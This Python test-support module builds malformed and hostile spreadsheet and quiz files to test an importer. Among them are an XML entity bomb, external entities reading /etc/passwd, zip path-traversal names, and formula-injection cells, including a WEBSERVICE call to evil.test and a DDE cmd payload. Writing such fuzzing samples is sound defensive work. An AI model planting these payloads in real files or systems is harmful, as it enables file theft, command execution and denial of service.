"""Hostile tables and lists of other programs: CSV, TSV, Excel, LibreOffice and GIFT."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from functools import partial
from html import escape
from typing import NamedTuple

from support.corpus.payloads import FAMILIES
from support.packages import zipped

NAMESPACES = 'xmlns:office="urn:o" xmlns:table="urn:t" xmlns:text="urn:x"'
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRINGS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
HEADINGS = ("Question", "Answer", "Option A", "Option B", "Explanation", "Topic", "Tags", "ID")


class ForeignSample(NamedTuple):
    """A file to import: its name and what makes its bytes."""

    file: str
    make: Callable[[], bytes]


def csv_text(rows: Iterable[Sequence[str]], separator: str = ",") -> bytes:
    written = io.StringIO()
    csv.writer(written, delimiter=separator).writerows(rows)
    return written.getvalue().encode("utf-8", "replace")


def excel(rows: str, *, shared: str = "", replaced: Mapping[str, bytes] | None = None) -> bytes:
    """A table of Excel whose first sheet holds the XML `rows`, and `shared` strings."""
    from openpyxl import Workbook

    book, content = Workbook(), io.BytesIO()
    book.active.append(["x"])
    book.save(content)
    with zipfile.ZipFile(content) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    sheet = f'<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'
    entries["xl/worksheets/sheet1.xml"] = sheet.encode()
    part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{STRINGS}"/></Types>'
    types = entries["[Content_Types].xml"].replace(b"</Types>", part.encode())
    entries["[Content_Types].xml"] = types
    entries["xl/sharedStrings.xml"] = f'<sst xmlns="{SHEET}">{shared}</sst>'.encode()
    return zipped({**entries, **(replaced or {})})


def excel_row(number: int, *cells: str) -> str:
    """A row of texts."""
    texts = (f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in cells)
    return f'<row r="{number}">{"".join(texts)}</row>'


def stored(first: Mapping[str, bytes], packed: Mapping[str, bytes]) -> bytes:
    """A zip file whose entries `first` are not packed, as in those of LibreOffice."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, entry in first.items():
            archive.writestr(name, entry, zipfile.ZIP_STORED)
        for name, entry in packed.items():
            archive.writestr(name, entry, zipfile.ZIP_DEFLATED)
    return content.getvalue()


def libre_office(rows: str) -> bytes:
    """A table of LibreOffice whose only sheet holds the XML `rows`."""
    table = f'<table:table table:name="S">{rows}</table:table>'
    content = f"<office:document-content {NAMESPACES}>{table}</office:document-content>"
    return stored(KIND, {"content.xml": content.encode()})


def libre_office_row(*cells: str, times: int = 1) -> str:
    texts = "".join(f"<table:table-cell><text:p>{c}</text:p></table:table-cell>" for c in cells)
    return f'<table:table-row table:number-rows-repeated="{times}">{texts}</table:table-row>'


def _clean(text: str) -> str:
    """`text` as XML can hold it."""
    legal = "".join(c if c.isprintable() or c in "\n\t" else "?" for c in text)
    return escape(legal)


def _rows(seeds: Sequence[str]) -> list[tuple[str, ...]]:
    rows = [(t, t, "other", t, t, t[:90], t[:90], t[:40]) for t in seeds]
    return [HEADINGS, *rows, *((f"Q {t}", "A", t, "b", "", "", "", "") for t in seeds)]


def _gift(seeds: Iterable[str]) -> bytes:
    entries = []
    for text in seeds:
        line = " ".join(text.split())
        safe = "".join(f"\\{c}" if c in "~=#{}:\\" else c for c in line)
        entries += [
            f"// [id:{line[:60]}] [tag:{line[:60]}]\n::{line[:60]}::{line} {{={line} ~b}}",
            f"::{safe}::[html]{safe}{{={safe}#{safe} ~b#{safe}####{safe}}}",
            f"[markdown]{safe}{{={safe} -> {safe} =c -> d}}",
            f"$CATEGORY: {line[:60]}\n\n{safe}{{#{line[:30]}:{line[:30]}}}",
        ]
    return "\n\n".join(entries).encode("utf-8", "replace")


MAKERS: dict[str, tuple[str, Callable[[Sequence[str]], bytes]]] = {
    "CSV": ("x.csv", lambda seeds: csv_text(_rows(seeds))),
    "TSV": ("x.tsv", lambda seeds: csv_text(_rows(seeds), "\t")),
    "GIFT": ("x.gift", lambda seeds: _gift(seeds)),
    "Excel": ("x.xlsx", lambda seeds: _excel(_rows(seeds))),
    "LibreOffice": ("x.ods", lambda seeds: _ods(_rows(seeds))),
}


def _of_families() -> dict[str, ForeignSample]:
    return {
        f"{kind} of {family} {part}": ForeignSample(file, partial(make, seeds[part::2]))
        for family, seeds in FAMILIES.items()
        for part in range(2)
        for kind, (file, make) in MAKERS.items()
    }


def _excel(rows: Iterable[Sequence[str]]) -> bytes:
    return excel("".join(excel_row(n, *map(_clean, row)) for n, row in enumerate(rows, 1)))


def _ods(rows: Iterable[Sequence[str]]) -> bytes:
    return libre_office("".join(libre_office_row(*map(_clean, row)) for row in rows))


BOMB = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]><a>&b;</a>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
QA = excel_row(1, "Question", "Answer")
FORMULA = '<c t="str"><f>{}</f><v>{}</v></c>'
CALLS = FORMULA.format("WEBSERVICE(&quot;http://evil.test/leak&quot;)", "=cmd|' /c calc'!A1")
KIND = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}
ODD: dict[str, ForeignSample] = {
    "empty CSV": ForeignSample("x.csv", lambda: b""),
    "CSV of zeros": ForeignSample("x.csv", lambda: b"\0" * 5000),
    "CSV in UTF-16": ForeignSample("x.csv", lambda: "Question,Answer\nq,a\n".encode("utf-16")),
    "CSV in half of UTF-16": ForeignSample("x.csv", lambda: b"\xff\xfeQ\0u\0e\0s"),
    "CSV of all bytes": ForeignSample("x.csv", lambda: bytes(range(256)) * 20),
    "CSV with a quote that never ends": ForeignSample("x.csv", lambda: b'Question,Answer\n"q,a\n'),
    "CSV with headings alone": ForeignSample("x.csv", lambda: b"Question,Answer\n"),
    "CSV with all headings twice": ForeignSample("x.csv", lambda: csv_text([HEADINGS * 2] * 3)),
    "CSV that is a zip": ForeignSample("x.csv", lambda: zipped({"a": b"b"})),
    "CSV that begins as a zip": ForeignSample("x.csv", lambda: b"PK,Question,Answer\na,b,c\n"),
    "CSV with links": ForeignSample(
        "x.csv", lambda: b"Question,Answer,Image\nq,a,file:///etc/passwd\nq2,a,/dev/zero\n"
    ),
    "Excel that is CSV": ForeignSample("x.xlsx", lambda: b"Question,Answer\nq,a\n"),
    "Excel in half": ForeignSample("x.xlsx", lambda: excel(QA)[:700]),
    "Excel that is LibreOffice": ForeignSample("x.xlsx", lambda: _ods([("Question", "Answer")])),
    "Excel with formulas that call": ForeignSample(
        "x.xlsx", lambda: excel(f'{QA}<row r="2">{CALLS}{CALLS}</row>')
    ),
    "Excel with formulas without a value": ForeignSample(
        "x.xlsx", lambda: excel(f'{QA}<row r="2"><c><f>1+1</f></c><c><f>2</f></c></row>')
    ),
    "Excel with entities": ForeignSample(
        "x.xlsx", lambda: excel("", replaced={"xl/sharedStrings.xml": BOMB.encode()})
    ),
    "Excel with entities in UTF-16": ForeignSample(
        "x.xlsx", lambda: excel("", replaced={"xl/workbook.xml": BOMB.encode("utf-16")})
    ),
    "Excel with an outer entity": ForeignSample(
        "x.xlsx", lambda: excel("", replaced={"xl/styles.xml": OUTSIDE.encode()})
    ),
    "Excel with links to sheets outside": ForeignSample(
        "x.xlsx",
        lambda: excel(
            QA,
            replaced={
                "xl/_rels/workbook.xml.rels": b'<Relationships><Relationship Id="rId1" '
                b'Type="worksheet" Target="../../../etc/passwd"/></Relationships>'
            },
        ),
    ),
    "Excel with names that climb": ForeignSample(
        "x.xlsx", lambda: excel(QA, replaced={"../../evil": b"x", "/etc/evil": b"y"})
    ),
    "Excel with numbers beyond numbers": ForeignSample(
        "x.xlsx",
        lambda: excel(
            f'{QA}<row r="2"><c><v>{"9" * 5000}</v></c><c><v>1e999</v></c></row>'
            '<row r="3"><c t="d"><v>x</v></c><c t="b"><v>5</v></c></row>'
            '<row r="4"><c t="e"><v>#REF!</v></c><c t="s"><v>99</v></c></row>'
        ),
    ),
    "Excel with rows in no order": ForeignSample(
        "x.xlsx", lambda: excel(f'<row r="-5"/><row r="99999999999"/>{QA}<row r="x"/>')
    ),
    "LibreOffice with entities": ForeignSample(
        "x.ods",
        lambda: stored(KIND, {"content.xml": BOMB.encode()}),
    ),
    "LibreOffice with an outer entity": ForeignSample(
        "x.ods",
        lambda: stored(
            {"mimetype": b"opendocument.spreadsheet"}, {"content.xml": OUTSIDE.encode()}
        ),
    ),
    "LibreOffice of depth": ForeignSample("x.ods", lambda: libre_office("<a>" * 50_000)),
    "LibreOffice with counts beyond counts": ForeignSample(
        "x.ods",
        lambda: libre_office(
            libre_office_row("Question", "Answer")
            + libre_office_row("q", "a").replace('repeated="1"', f'repeated="{"9" * 5000}"')
            + libre_office_row("q2", "a").replace('repeated="1"', 'repeated="-1"')
        ),
    ),
    "GIFT with a brace that never ends": ForeignSample("x.gift", lambda: b"Q {=a ~b\n\nQ2 {T}\n"),
    "GIFT with numbers beyond numbers": ForeignSample(
        "x.gift",
        lambda: (
            f"Q{{#{'9' * 5000}}}\n\nR{{#1e30:1e-30}}\n\nS{{#nan..inf}}\n\nT{{#1..1e999}}".encode()
        ),
    ),
    "GIFT of escapes": ForeignSample("x.gift", lambda: b"\\{\\}\\~\\=\\#\\:\\\\ {=\\} ~\\\\}\n"),
    "GIFT of noncharacters": ForeignSample("x.gift", lambda: "\ufdd0\ufddf {=a ~b}".encode()),
    "GIFT with weights": ForeignSample(
        "x.gift", lambda: b"Q {~%-100%a ~%" + b"9" * 500 + b"%b ~%50%c =%0%d}"
    ),
}

TABLES: dict[str, ForeignSample] = {**_of_families(), **ODD}
"""By what they are."""
